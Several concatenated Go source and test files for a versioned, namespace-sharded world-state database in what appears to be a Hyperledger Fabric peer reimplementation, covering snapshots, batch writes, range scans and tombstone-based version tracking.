				for j := range gotRV {
					if gotRV[j].Key != wantRV[j].Key || gotRV[j].Version != wantRV[j].Version {
						t.Fatalf("step %d RangeVersions[%d]: %+v want %+v", step, j, gotRV[j], wantRV[j])
					}
				}
			case 3: // snapshot (keep at most 4 live; oldest released)
				snaps = append(snaps, frozen{snap: db.Snapshot(), ref: model.clone()})
				if len(snaps) > 4 {
					snaps[0].snap.Release()
					snaps = snaps[1:]
				}
			case 4: // batch write across namespaces
				val := []byte(fmt.Sprintf("b%d", step))
				batch := []Write{
					{Namespace: ns, Key: key, Value: val},
					{Namespace: namespaces[(int(arg)+1)%len(namespaces)], Key: key, IsDelete: true},
				}
				db.ApplyBatch(batch)
				model.put(ns, key, val)
				model.del(namespaces[(int(arg)+1)%len(namespaces)], key)
			case 5: // point reads + keys are verified below for all cases
			}
			compareAll(t, db, model, namespaces, keys)
			// Every live snapshot must still match its frozen model.
			for si, fr := range snaps {
				for _, sns := range namespaces {
					wantKeys := fr.ref.keys(sns)
					gotKeys := fr.snap.Keys(sns)
					if fmt.Sprint(gotKeys) != fmt.Sprint(wantKeys) && (len(gotKeys) != 0 || len(wantKeys) != 0) {
						t.Fatalf("step %d snapshot %d ns %q keys: got %v want %v", step, si, sns, gotKeys, wantKeys)
					}
					for _, k := range keys {
						wantVV, wantOK := fr.ref.get(sns, k)
						gotV, gotVer, gotOK := fr.snap.Get(sns, k)
						if gotOK != wantOK || gotVer != wantVV.Version || !bytes.Equal(gotV, wantVV.Value) {
							t.Fatalf("step %d snapshot %d %s/%s: got (%q v%d %v) want (%q v%d %v)",
								step, si, sns, k, gotV, gotVer, gotOK, wantVV.Value, wantVV.Version, wantOK)
						}
					}
					compareRange(t, fr.snap.GetRange(sns, "k1", "k6"), fr.ref.getRange(sns, "k1", "k6"),
						fmt.Sprintf("step %d snapshot %d range", step, si))
				}
			}
		}
		for _, fr := range snaps {
			fr.snap.Release()
		}
	})
}
