// Package statedb implements the world state of a Fabric peer: a versioned
// key-value database storing ⟨key, value, version⟩ tuples, partitioned into
// namespaces (one per chaincode, plus one per private data collection and
// one per collection hash space).
//
// The version of a key starts at 1 on first write and increases
// monotonically on every update, exactly as the paper describes in
// §II-A1; the validator's version-conflict (MVCC) check compares the
// versions captured in a transaction's read set against the versions
// currently recorded here.
//
// Storage architecture (docs/STATEDB.md): the database is sharded by
// namespace. Each namespace is an independent store with its own
// read-write lock and an incrementally maintained sorted key index, so
// operations on different namespaces never contend and range scans cost
// O(log n + k) instead of a full scan and sort. Each namespace's state is
// copy-on-write: Snapshot pins the current per-namespace states as an
// immutable, lock-free read view, and the next write to a pinned
// namespace clones it first.
package statedb

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Version is the per-key update counter. The zero Version means "key
// absent". Fabric proper uses (block, txNum) heights; a per-key counter
// has identical MVCC semantics because all peers apply the same valid
// transactions in the same order.
type Version uint64

// VersionedValue is a value with the version at which it was last written.
type VersionedValue struct {
	Value   []byte
	Version Version
}

// KV is a key with its versioned value, as returned from range scans.
type KV struct {
	Namespace string
	Key       string
	Value     []byte
	Version   Version
}

// KeyVersion is a key with only its version, as returned from
// version-only range scans (the phantom-read check needs nothing else).
type KeyVersion struct {
	Key     string
	Version Version
}

// MetadataNamespace returns the namespace holding per-key validation
// parameters (key-level endorsement policies) of a chaincode namespace.
// Metadata lives beside the data so validators can resolve the policy a
// written key is governed by.
func MetadataNamespace(ns string) string { return ns + "$vp" }

// Observer receives named operation timings from the database; the
// peer wires metrics.Timings here. Implementations must be safe for
// concurrent use.
type Observer interface {
	Observe(name string, d time.Duration)
}

// Timing names reported to the Observer. The string values match the
// histogram names declared in internal/metrics.
const (
	// ObserveScan times each range scan (GetRange / RangeVersions).
	ObserveScan = "statedb_scan"
	// ObserveBatch times each ApplyBatch, lock acquisition included.
	ObserveBatch = "statedb_batch"
	// ObserveLockWait times how long ApplyBatch waited to acquire the
	// locks of every namespace it touches.
	ObserveLockWait = "statedb_lock_wait"
)

// Stats is a consistent-enough snapshot of the database's operation
// counters (each field is read atomically; the set is not cut at one
// instant). The peer surfaces these as statedb_* metrics.
type Stats struct {
	// Gets counts point reads (Get, GetUnsafe, GetVersion) plus every
	// key of a batched GetVersions.
	Gets uint64
	// Puts counts single-key writes, batched or not.
	Puts uint64
	// Deletes counts single-key deletions, batched or not.
	Deletes uint64
	// RangeScans counts range scans (GetRange, RangeVersions).
	RangeScans uint64
	// Snapshots counts Snapshot calls.
	Snapshots uint64
	// CowClones counts namespace states cloned because a snapshot was
	// holding them when a write arrived.
	CowClones uint64
	// Batches counts ApplyBatch calls.
	Batches uint64
}

// nsState is the immutable-once-shared state of one namespace: live
// tuples, deletion tombstones, and the sorted index of live keys. While
// no snapshot holds the state (snaps == 0) writers mutate it in place;
// the first write after a snapshot pins it clones the whole state.
type nsState struct {
	data  map[string]VersionedValue
	tombs map[string]Version // last version of deleted keys
	keys  []string           // sorted live keys
	// snaps counts snapshots currently pinning this state. Incremented
	// under the owning store's write lock; decremented lock-free by
	// Snapshot.Release.
	snaps int32
}

func newNsState() *nsState {
	return &nsState{
		data:  make(map[string]VersionedValue),
		tombs: make(map[string]Version),
	}
}

// clone deep-copies the state maps and index (values are immutable and
// shared).
func (st *nsState) clone() *nsState {
	c := &nsState{
		data:  make(map[string]VersionedValue, len(st.data)),
		tombs: make(map[string]Version, len(st.tombs)),
		keys:  make([]string, len(st.keys)),
	}
	for k, v := range st.data {
		c.data[k] = v
	}
	for k, v := range st.tombs {
		c.tombs[k] = v
	}
	copy(c.keys, st.keys)
	return c
}

// insertKey adds key to the sorted index if absent. Only called on
// writable (unshared) states.
func (st *nsState) insertKey(key string) {
	i := sort.SearchStrings(st.keys, key)
	if i < len(st.keys) && st.keys[i] == key {
		return
	}
	st.keys = append(st.keys, "")
	copy(st.keys[i+1:], st.keys[i:])
	st.keys[i] = key
}

// removeKey drops key from the sorted index. Only called on writable
// (unshared) states.
func (st *nsState) removeKey(key string) {
	i := sort.SearchStrings(st.keys, key)
	if i >= len(st.keys) || st.keys[i] != key {
		return
	}
	st.keys = append(st.keys[:i], st.keys[i+1:]...)
}

// rangeBounds returns the [lo, hi) index window of the sorted key index
// covering startKey <= k < endKey (empty endKey means "to the end").
func (st *nsState) rangeBounds(startKey, endKey string) (lo, hi int) {
	lo = sort.SearchStrings(st.keys, startKey)
	if endKey == "" {
		return lo, len(st.keys)
	}
	hi = sort.SearchStrings(st.keys, endKey)
	if hi < lo {
		hi = lo
	}
	return lo, hi
}

func (st *nsState) put(ns, key string, value []byte) Version {
	base := st.data[key].Version
	if base == 0 {
		base = st.tombs[key]
	}
	next := base + 1
	if _, live := st.data[key]; !live {
		st.insertKey(key)
	}
	st.data[key] = VersionedValue{Value: append([]byte(nil), value...), Version: next}
	return next
}

func (st *nsState) putAt(key string, value []byte, ver Version) {
	if _, live := st.data[key]; !live {
		st.insertKey(key)
	}
	st.data[key] = VersionedValue{Value: append([]byte(nil), value...), Version: ver}
}

// delete removes a live key, returning the tombstone version recorded
// for it (the version the key had when deleted). ok is false when the
// key was not live.
func (st *nsState) delete(key string) (Version, bool) {
	vv, ok := st.data[key]
	if !ok {
		return 0, false
	}
	st.tombs[key] = vv.Version
	delete(st.data, key)
	st.removeKey(key)
	return vv.Version, true
}

// nsStore is one namespace shard: a lock striping unit owning the
// namespace's current state.
type nsStore struct {
	mu sync.RWMutex
	st *nsState
}

// writable returns the current state, cloning it first when a snapshot
// pins it. Caller must hold s.mu.
func (s *nsStore) writable(db *DB) *nsState {
	if atomic.LoadInt32(&s.st.snaps) > 0 {
		s.st = s.st.clone()
		atomic.AddUint64(&db.stats.cowClones, 1)
	}
	return s.st
}

// DB is an in-memory, thread-safe versioned store, sharded by namespace.
// The zero value is not usable; construct with New.
type DB struct {
	// mu guards the namespace registry and the observer. Write
	// operations hold it shared for their full duration so Snapshot
	// (which holds it exclusively) observes a point-in-time state across
	// every namespace.
	mu  sync.RWMutex
	nss map[string]*nsStore
	obs Observer

	// journal captures resolved mutations for the durable StateStore
	// when enabled (see journal.go); disabled it costs one atomic load
	// per write operation.
	journal journal

	stats struct {
		gets, puts, deletes, rangeScans, snapshots, cowClones, batches uint64
	}
}

// New creates an empty world state database.
func New() *DB {
	return &DB{nss: make(map[string]*nsStore)}
}

// SetObserver wires an operation-timing sink (normally a
// *metrics.Timings). Pass nil to disable. Not safe to race with other
// operations; set it during peer construction.
func (db *DB) SetObserver(obs Observer) {
	db.mu.Lock()
	db.obs = obs
	db.mu.Unlock()
}

// Stats returns the database's operation counters.
func (db *DB) Stats() Stats {
	return Stats{
		Gets:       atomic.LoadUint64(&db.stats.gets),
		Puts:       atomic.LoadUint64(&db.stats.puts),
		Deletes:    atomic.LoadUint64(&db.stats.deletes),
		RangeScans: atomic.LoadUint64(&db.stats.rangeScans),
		Snapshots:  atomic.LoadUint64(&db.stats.snapshots),
		CowClones:  atomic.LoadUint64(&db.stats.cowClones),
		Batches:    atomic.LoadUint64(&db.stats.batches),
	}
}

// lookup returns the namespace shard, or nil when the namespace has
// never been written.
func (db *DB) lookup(ns string) *nsStore {
	db.mu.RLock()
	s := db.nss[ns]
	db.mu.RUnlock()
	return s
}

// ensure returns the namespace shard, creating it if needed. Must be
// called without db.mu held.
func (db *DB) ensure(ns string) *nsStore {
	if s := db.lookup(ns); s != nil {
		return s
	}
	db.mu.Lock()
	s, ok := db.nss[ns]
	if !ok {
		s = &nsStore{st: newNsState()}
		db.nss[ns] = s
	}
	db.mu.Unlock()
	return s
}

// Get returns the value and version for key in the namespace. ok is false
// when the key is absent (deleted keys are absent). The returned slice is
// the caller's to keep.
func (db *DB) Get(ns, key string) (value []byte, ver Version, ok bool) {
	v, ver, ok := db.GetUnsafe(ns, key)
	if !ok {
		return nil, 0, false
	}
	return append([]byte(nil), v...), ver, true
}

// GetUnsafe returns the stored value slice without a defensive copy. The
// caller MUST NOT mutate the returned slice: it is shared with the store
// and with any snapshot pinning the namespace. Internal read-only paths
// (hash comparison, policy parsing) use it to skip the per-read
// allocation of Get.
func (db *DB) GetUnsafe(ns, key string) (value []byte, ver Version, ok bool) {
	atomic.AddUint64(&db.stats.gets, 1)
	s := db.lookup(ns)
	if s == nil {
		return nil, 0, false
	}
	s.mu.RLock()
	vv, ok := s.st.data[key]
	s.mu.RUnlock()
	if !ok {
		return nil, 0, false
	}
	return vv.Value, vv.Version, true
}

// GetVersion returns only the version of a key; 0 when absent. Both the
// private store and the hash store of a collection report the same version
// for the same logical key, which is precisely what makes the paper's
// GetPrivateDataHash-based endorsement forgery possible.
func (db *DB) GetVersion(ns, key string) Version {
	atomic.AddUint64(&db.stats.gets, 1)
	s := db.lookup(ns)
	if s == nil {
		return 0
	}
	s.mu.RLock()
	ver := s.st.data[key].Version
	s.mu.RUnlock()
	return ver
}

// GetVersions returns the current version of every key (0 when absent)
// under a single lock acquisition on the namespace shard. The validator's
// MVCC check uses it to compare a transaction's whole read set against
// the world state without taking the lock once per key.
func (db *DB) GetVersions(ns string, keys []string) []Version {
	atomic.AddUint64(&db.stats.gets, uint64(len(keys)))
	out := make([]Version, len(keys))
	s := db.lookup(ns)
	if s == nil {
		return out
	}
	s.mu.RLock()
	for i, key := range keys {
		out[i] = s.st.data[key].Version
	}
	s.mu.RUnlock()
	return out
}

// Put writes value under key, advancing the version, and returns the new
// version.
func (db *DB) Put(ns, key string, value []byte) Version {
	atomic.AddUint64(&db.stats.puts, 1)
	s := db.ensure(ns)
	db.mu.RLock()
	s.mu.Lock()
	ver := s.writable(db).put(ns, key, value)
	if db.journal.enabled() {
		db.journal.record(JournalEntry{Namespace: ns, Key: key, Value: append([]byte(nil), value...), Version: ver})
	}
	s.mu.Unlock()
	db.mu.RUnlock()
	return ver
}

// PutAtVersion writes value under key at an explicit version. It is used
// when committing a write whose version was fixed elsewhere (the hash
// store and private store of a collection must record identical versions).
func (db *DB) PutAtVersion(ns, key string, value []byte, ver Version) {
	atomic.AddUint64(&db.stats.puts, 1)
	s := db.ensure(ns)
	db.mu.RLock()
	s.mu.Lock()
	s.writable(db).putAt(key, value, ver)
	if db.journal.enabled() {
		db.journal.record(JournalEntry{Namespace: ns, Key: key, Value: append([]byte(nil), value...), Version: ver})
	}
	s.mu.Unlock()
	db.mu.RUnlock()
}

// Delete removes key from the namespace. Deleting an absent key is a
// no-op. A later re-write of the key restarts its version from the
// deleted key's last version + 1, preserved via tombstone bookkeeping.
func (db *DB) Delete(ns, key string) {
	atomic.AddUint64(&db.stats.deletes, 1)
	s := db.lookup(ns)
	if s == nil {
		return
	}
	db.mu.RLock()
	s.mu.Lock()
	// Clone only when the key is live; deleting an absent key must not
	// copy-on-write the namespace.
	if _, live := s.st.data[key]; live {
		ver, ok := s.writable(db).delete(key)
		if ok && db.journal.enabled() {
			db.journal.record(JournalEntry{Namespace: ns, Key: key, Version: ver, Delete: true})
		}
	}
	s.mu.Unlock()
	db.mu.RUnlock()
}

// Write is one element of a batch update.
type Write struct {
	Namespace string
	Key       string
	Value     []byte
	// IsDelete marks a deletion; Value is ignored when set.
	IsDelete bool
	// Version, when non-zero, pins the version recorded for the write
	// instead of advancing the current one.
	Version Version
}

// ApplyBatch applies a set of writes atomically with respect to readers
// and snapshots: the locks of every touched namespace are held
// simultaneously (acquired in sorted order) while the batch applies.
func (db *DB) ApplyBatch(writes []Write) {
	if len(writes) == 0 {
		return
	}
	start := time.Now()
	atomic.AddUint64(&db.stats.batches, 1)

	// Resolve (creating if needed) every touched shard before locking.
	names := make([]string, 0, len(writes))
	seen := make(map[string]bool, len(writes))
	for _, w := range writes {
		if !seen[w.Namespace] {
			seen[w.Namespace] = true
			names = append(names, w.Namespace)
		}
	}
	sort.Strings(names)
	shards := make(map[string]*nsStore, len(names))
	for _, ns := range names {
		shards[ns] = db.ensure(ns)
	}

	db.mu.RLock()
	obs := db.obs
	for _, ns := range names {
		shards[ns].mu.Lock()
	}
	lockWait := time.Since(start)

	states := make(map[string]*nsState, len(names))
	for _, ns := range names {
		states[ns] = shards[ns].writable(db)
	}
	capture := db.journal.enabled()
	var entries []JournalEntry
	for _, w := range writes {
		st := states[w.Namespace]
		switch {
		case w.IsDelete:
			atomic.AddUint64(&db.stats.deletes, 1)
			ver, ok := st.delete(w.Key)
			if ok && capture {
				entries = append(entries, JournalEntry{Namespace: w.Namespace, Key: w.Key, Version: ver, Delete: true})
			}
		case w.Version != 0:
			atomic.AddUint64(&db.stats.puts, 1)
			st.putAt(w.Key, w.Value, w.Version)
			if capture {
				entries = append(entries, JournalEntry{Namespace: w.Namespace, Key: w.Key, Value: append([]byte(nil), w.Value...), Version: w.Version})
			}
		default:
			atomic.AddUint64(&db.stats.puts, 1)
			ver := st.put(w.Namespace, w.Key, w.Value)
			if capture {
				entries = append(entries, JournalEntry{Namespace: w.Namespace, Key: w.Key, Value: append([]byte(nil), w.Value...), Version: ver})
			}
		}
	}
	if len(entries) > 0 {
		db.journal.record(entries...)
	}
	for i := len(names) - 1; i >= 0; i-- {
		shards[names[i]].mu.Unlock()
	}
	db.mu.RUnlock()

	if obs != nil {
		obs.Observe(ObserveLockWait, lockWait)
		obs.Observe(ObserveBatch, time.Since(start))
	}
}

// GetRange returns all keys k with startKey <= k < endKey in the
// namespace, sorted by key. An empty endKey means "to the end". The
// sorted index makes this O(log n + k); values are copied out.
func (db *DB) GetRange(ns, startKey, endKey string) []KV {
	atomic.AddUint64(&db.stats.rangeScans, 1)
	s := db.lookup(ns)
	if s == nil {
		return nil
	}
	start := time.Now()
	db.mu.RLock()
	obs := db.obs
	db.mu.RUnlock()
	s.mu.RLock()
	st := s.st
	lo, hi := st.rangeBounds(startKey, endKey)
	var out []KV
	if hi > lo {
		out = make([]KV, 0, hi-lo)
		for _, key := range st.keys[lo:hi] {
			vv := st.data[key]
			out = append(out, KV{
				Namespace: ns,
				Key:       key,
				Value:     append([]byte(nil), vv.Value...),
				Version:   vv.Version,
			})
		}
	}
	s.mu.RUnlock()
	if obs != nil {
		obs.Observe(ObserveScan, time.Since(start))
	}
	return out
}

// RangeVersions returns the ⟨key, version⟩ pairs of the range without
// copying any value — the validator's phantom-read re-execution needs
// exactly this and nothing more.
func (db *DB) RangeVersions(ns, startKey, endKey string) []KeyVersion {
	atomic.AddUint64(&db.stats.rangeScans, 1)
	s := db.lookup(ns)
	if s == nil {
		return nil
	}
	start := time.Now()
	db.mu.RLock()
	obs := db.obs
	db.mu.RUnlock()
	s.mu.RLock()
	st := s.st
	lo, hi := st.rangeBounds(startKey, endKey)
	var out []KeyVersion
	if hi > lo {
		out = make([]KeyVersion, 0, hi-lo)
		for _, key := range st.keys[lo:hi] {
			out = append(out, KeyVersion{Key: key, Version: st.data[key].Version})
		}
	}
	s.mu.RUnlock()
	if obs != nil {
		obs.Observe(ObserveScan, time.Since(start))
	}
	return out
}

// Keys returns all keys in a namespace, sorted. The sorted index is
// copied out, not re-sorted.
func (db *DB) Keys(ns string) []string {
	s := db.lookup(ns)
	if s == nil {
		return nil
	}
	s.mu.RLock()
	out := make([]string, len(s.st.keys))
	copy(out, s.st.keys)
	s.mu.RUnlock()
	return out
}

// Namespaces returns all namespaces with at least one live key, sorted.
func (db *DB) Namespaces() []string {
	db.mu.RLock()
	shards := make(map[string]*nsStore, len(db.nss))
	for ns, s := range db.nss {
		shards[ns] = s
	}
	db.mu.RUnlock()
	out := make([]string, 0, len(shards))
	for ns, s := range shards {
		s.mu.RLock()
		live := len(s.st.data) > 0
		s.mu.RUnlock()
		if live {
			out = append(out, ns)
		}
	}
	sort.Strings(out)
	return out
}

// Len returns the number of live keys in a namespace.
func (db *DB) Len(ns string) int {
	s := db.lookup(ns)
	if s == nil {
		return 0
	}
	s.mu.RLock()
	n := len(s.st.data)
	s.mu.RUnlock()
	return n
}

// String renders a compact dump of the database, for debugging and the
// example programs. Namespaces and keys come out sorted; the per-shard
// sorted index is reused rather than re-sorted.
func (db *DB) String() string {
	// A snapshot gives a stable, lock-free view to render from.
	snap := db.Snapshot()
	defer snap.Release()
	var b strings.Builder
	for _, ns := range snap.Namespaces() {
		st := snap.states[ns]
		for _, k := range st.keys {
			vv := st.data[k]
			fmt.Fprintf(&b, "%s/%s = %q @v%d\n", ns, k, vv.Value, vv.Version)
		}
	}
	return b.String()
}
