// Package statedb implements the world state of a Fabric peer: a versioned
// key-value database storing ⟨key, value, version⟩ tuples, partitioned into
// namespaces (one per chaincode, plus one per private data collection and
// one per collection hash space).
//
// The version of a key starts at 1 on first write and increases
// monotonically on every update, exactly as the paper describes in
// §II-A1; the validator's version-conflict (MVCC) check compares the
// versions captured in a transaction's read set against the versions
// currently recorded here.
package statedb

import (
	"fmt"
	"sort"
	"strings"
	"sync"
)

// Version is the per-key update counter. The zero Version means "key
// absent". Fabric proper uses (block, txNum) heights; a per-key counter
// has identical MVCC semantics because all peers apply the same valid
// transactions in the same order.
type Version uint64

// VersionedValue is a value with the version at which it was last written.
type VersionedValue struct {
	Value   []byte
	Version Version
}

// KV is a key with its versioned value, as returned from range scans.
type KV struct {
	Namespace string
	Key       string
	Value     []byte
	Version   Version
}

// MetadataNamespace returns the namespace holding per-key validation
// parameters (key-level endorsement policies) of a chaincode namespace.
// Metadata lives beside the data so validators can resolve the policy a
// written key is governed by.
func MetadataNamespace(ns string) string { return ns + "$vp" }

// DB is an in-memory, thread-safe versioned store. The zero value is not
// usable; construct with New.
type DB struct {
	mu   sync.RWMutex
	data map[string]map[string]VersionedValue // namespace -> key -> value
	// tombs remembers the last version of deleted keys so a re-created
	// key continues its version sequence instead of restarting at 1.
	tombs map[string]map[string]Version
}

// New creates an empty world state database.
func New() *DB {
	return &DB{
		data:  make(map[string]map[string]VersionedValue),
		tombs: make(map[string]map[string]Version),
	}
}

// Get returns the value and version for key in the namespace. ok is false
// when the key is absent (deleted keys are absent).
func (db *DB) Get(ns, key string) (value []byte, ver Version, ok bool) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	vv, ok := db.data[ns][key]
	if !ok {
		return nil, 0, false
	}
	return append([]byte(nil), vv.Value...), vv.Version, true
}

// GetVersion returns only the version of a key; 0 when absent. Both the
// private store and the hash store of a collection report the same version
// for the same logical key, which is precisely what makes the paper's
// GetPrivateDataHash-based endorsement forgery possible.
func (db *DB) GetVersion(ns, key string) Version {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.data[ns][key].Version
}

// Put writes value under key, advancing the version, and returns the new
// version.
func (db *DB) Put(ns, key string, value []byte) Version {
	db.mu.Lock()
	defer db.mu.Unlock()
	return db.putLocked(ns, key, value)
}

func (db *DB) putLocked(ns, key string, value []byte) Version {
	m, ok := db.data[ns]
	if !ok {
		m = make(map[string]VersionedValue)
		db.data[ns] = m
	}
	base := m[key].Version
	if base == 0 {
		base = db.tombs[ns][key]
	}
	next := base + 1
	m[key] = VersionedValue{Value: append([]byte(nil), value...), Version: next}
	return next
}

// PutAtVersion writes value under key at an explicit version. It is used
// when committing a write whose version was fixed elsewhere (the hash
// store and private store of a collection must record identical versions).
func (db *DB) PutAtVersion(ns, key string, value []byte, ver Version) {
	db.mu.Lock()
	defer db.mu.Unlock()
	m, ok := db.data[ns]
	if !ok {
		m = make(map[string]VersionedValue)
		db.data[ns] = m
	}
	m[key] = VersionedValue{Value: append([]byte(nil), value...), Version: ver}
}

// Delete removes key from the namespace. Deleting an absent key is a
// no-op. A later re-write of the key restarts its version from the
// deleted key's last version + 1, preserved via tombstone bookkeeping.
func (db *DB) Delete(ns, key string) {
	db.mu.Lock()
	defer db.mu.Unlock()
	db.deleteLocked(ns, key)
}

func (db *DB) deleteLocked(ns, key string) {
	m, ok := db.data[ns]
	if !ok {
		return
	}
	vv, ok := m[key]
	if !ok {
		return
	}
	t, ok := db.tombs[ns]
	if !ok {
		t = make(map[string]Version)
		db.tombs[ns] = t
	}
	t[key] = vv.Version
	delete(m, key)
}

// Write is one element of a batch update.
type Write struct {
	Namespace string
	Key       string
	Value     []byte
	// IsDelete marks a deletion; Value is ignored when set.
	IsDelete bool
	// Version, when non-zero, pins the version recorded for the write
	// instead of advancing the current one.
	Version Version
}

// ApplyBatch applies a set of writes atomically with respect to readers.
func (db *DB) ApplyBatch(writes []Write) {
	db.mu.Lock()
	defer db.mu.Unlock()
	for _, w := range writes {
		switch {
		case w.IsDelete:
			db.deleteLocked(w.Namespace, w.Key)
		case w.Version != 0:
			m, ok := db.data[w.Namespace]
			if !ok {
				m = make(map[string]VersionedValue)
				db.data[w.Namespace] = m
			}
			m[w.Key] = VersionedValue{Value: append([]byte(nil), w.Value...), Version: w.Version}
		default:
			db.putLocked(w.Namespace, w.Key, w.Value)
		}
	}
}

// GetRange returns all keys k with startKey <= k < endKey in the
// namespace, sorted by key. An empty endKey means "to the end".
func (db *DB) GetRange(ns, startKey, endKey string) []KV {
	db.mu.RLock()
	defer db.mu.RUnlock()
	var out []KV
	for key, vv := range db.data[ns] {
		if key < startKey {
			continue
		}
		if endKey != "" && key >= endKey {
			continue
		}
		out = append(out, KV{Namespace: ns, Key: key, Value: append([]byte(nil), vv.Value...), Version: vv.Version})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

// Keys returns all keys in a namespace, sorted.
func (db *DB) Keys(ns string) []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	keys := make([]string, 0, len(db.data[ns]))
	for k := range db.data[ns] {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// Namespaces returns all namespaces with at least one key, sorted.
func (db *DB) Namespaces() []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	out := make([]string, 0, len(db.data))
	for ns := range db.data {
		out = append(out, ns)
	}
	sort.Strings(out)
	return out
}

// Len returns the number of live keys in a namespace.
func (db *DB) Len(ns string) int {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return len(db.data[ns])
}

// String renders a compact dump of the database, for debugging and the
// example programs.
func (db *DB) String() string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	nss := make([]string, 0, len(db.data))
	for ns := range db.data {
		nss = append(nss, ns)
	}
	sort.Strings(nss)
	var b strings.Builder
	for _, ns := range nss {
		keys := make([]string, 0, len(db.data[ns]))
		for k := range db.data[ns] {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			vv := db.data[ns][k]
			fmt.Fprintf(&b, "%s/%s = %q @v%d\n", ns, k, vv.Value, vv.Version)
		}
	}
	return b.String()
}
