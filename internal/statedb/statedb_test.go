package statedb

import (
	"fmt"
	"testing"
	"testing/quick"
)

func TestPutGet(t *testing.T) {
	db := New()
	if _, _, ok := db.Get("ns", "missing"); ok {
		t.Fatal("missing key reported present")
	}
	v1 := db.Put("ns", "k", []byte("a"))
	if v1 != 1 {
		t.Fatalf("first version = %d, want 1", v1)
	}
	value, ver, ok := db.Get("ns", "k")
	if !ok || string(value) != "a" || ver != 1 {
		t.Fatalf("get = (%q, %d, %v)", value, ver, ok)
	}
	v2 := db.Put("ns", "k", []byte("b"))
	if v2 != 2 {
		t.Fatalf("second version = %d, want 2", v2)
	}
}

func TestNamespacesIsolated(t *testing.T) {
	db := New()
	db.Put("ns1", "k", []byte("a"))
	if _, _, ok := db.Get("ns2", "k"); ok {
		t.Fatal("key leaked across namespaces")
	}
	if db.GetVersion("ns2", "k") != 0 {
		t.Fatal("version leaked across namespaces")
	}
}

func TestDeleteAndVersionContinuity(t *testing.T) {
	db := New()
	db.Put("ns", "k", []byte("a")) // v1
	db.Put("ns", "k", []byte("b")) // v2
	db.Delete("ns", "k")
	if _, _, ok := db.Get("ns", "k"); ok {
		t.Fatal("deleted key still present")
	}
	if db.GetVersion("ns", "k") != 0 {
		t.Fatal("deleted key reports a live version")
	}
	// Re-creating the key continues the version sequence — a reader
	// holding the old version must still conflict.
	v := db.Put("ns", "k", []byte("c"))
	if v != 3 {
		t.Fatalf("post-delete version = %d, want 3", v)
	}
	// Deleting an absent key is a no-op.
	db.Delete("ns", "absent")
}

func TestGetReturnsCopy(t *testing.T) {
	db := New()
	db.Put("ns", "k", []byte("abc"))
	value, _, _ := db.Get("ns", "k")
	value[0] = 'X'
	again, _, _ := db.Get("ns", "k")
	if string(again) != "abc" {
		t.Fatal("internal state mutated through returned slice")
	}
}

func TestPutAtVersion(t *testing.T) {
	db := New()
	db.PutAtVersion("ns", "k", []byte("a"), 7)
	_, ver, _ := db.Get("ns", "k")
	if ver != 7 {
		t.Fatalf("pinned version = %d, want 7", ver)
	}
	// A normal Put continues from the pinned version.
	if v := db.Put("ns", "k", []byte("b")); v != 8 {
		t.Fatalf("version after pinned = %d, want 8", v)
	}
}

func TestApplyBatch(t *testing.T) {
	db := New()
	db.Put("ns", "gone", []byte("x"))
	db.ApplyBatch([]Write{
		{Namespace: "ns", Key: "a", Value: []byte("1")},
		{Namespace: "ns", Key: "b", Value: []byte("2"), Version: 5},
		{Namespace: "ns", Key: "gone", IsDelete: true},
	})
	if _, ver, _ := db.Get("ns", "a"); ver != 1 {
		t.Error("batch put version wrong")
	}
	if _, ver, _ := db.Get("ns", "b"); ver != 5 {
		t.Error("batch pinned version wrong")
	}
	if _, _, ok := db.Get("ns", "gone"); ok {
		t.Error("batch delete did not remove key")
	}
}

func TestGetRangeAndKeys(t *testing.T) {
	db := New()
	for _, k := range []string{"b", "a", "d", "c"} {
		db.Put("ns", k, []byte(k))
	}
	kvs := db.GetRange("ns", "b", "d")
	if len(kvs) != 2 || kvs[0].Key != "b" || kvs[1].Key != "c" {
		t.Fatalf("range = %+v", kvs)
	}
	all := db.GetRange("ns", "", "")
	if len(all) != 4 || all[0].Key != "a" {
		t.Fatalf("open range = %+v", all)
	}
	keys := db.Keys("ns")
	if len(keys) != 4 || keys[3] != "d" {
		t.Fatalf("keys = %v", keys)
	}
	if db.Len("ns") != 4 {
		t.Fatalf("len = %d", db.Len("ns"))
	}
	if nss := db.Namespaces(); len(nss) != 1 || nss[0] != "ns" {
		t.Fatalf("namespaces = %v", nss)
	}
}

// TestVersionMonotonicityQuick: any interleaving of puts and deletes on a
// key yields a strictly increasing sequence of observed live versions.
func TestVersionMonotonicityQuick(t *testing.T) {
	f := func(ops []bool) bool {
		db := New()
		last := Version(0)
		for _, isPut := range ops {
			if isPut {
				v := db.Put("ns", "k", []byte("x"))
				if v <= last {
					return false
				}
				last = v
			} else {
				db.Delete("ns", "k")
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// TestPutGetRoundTripQuick: the value read back equals the value written.
func TestPutGetRoundTripQuick(t *testing.T) {
	f := func(key string, value []byte) bool {
		db := New()
		db.Put("ns", key, value)
		got, _, ok := db.Get("ns", key)
		return ok && string(got) == string(value)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestStringDump(t *testing.T) {
	db := New()
	db.Put("ns", "k", []byte("v"))
	want := "ns/k = \"v\" @v1\n"
	if got := db.String(); got != want {
		t.Fatalf("String() = %q, want %q", got, want)
	}
}

func TestConcurrentAccess(t *testing.T) {
	db := New()
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 500; i++ {
			db.Put("ns", fmt.Sprintf("k%d", i%10), []byte("v"))
		}
	}()
	for i := 0; i < 500; i++ {
		db.Get("ns", fmt.Sprintf("k%d", i%10))
		db.GetRange("ns", "", "")
	}
	<-done
}
