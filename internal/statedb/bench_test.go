package statedb

import (
	"fmt"
	"testing"
)

// BenchmarkPut measures versioned writes.
func BenchmarkPut(b *testing.B) {
	db := New()
	value := []byte("value")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		db.Put("ns", fmt.Sprintf("k%d", i%1024), value)
	}
}

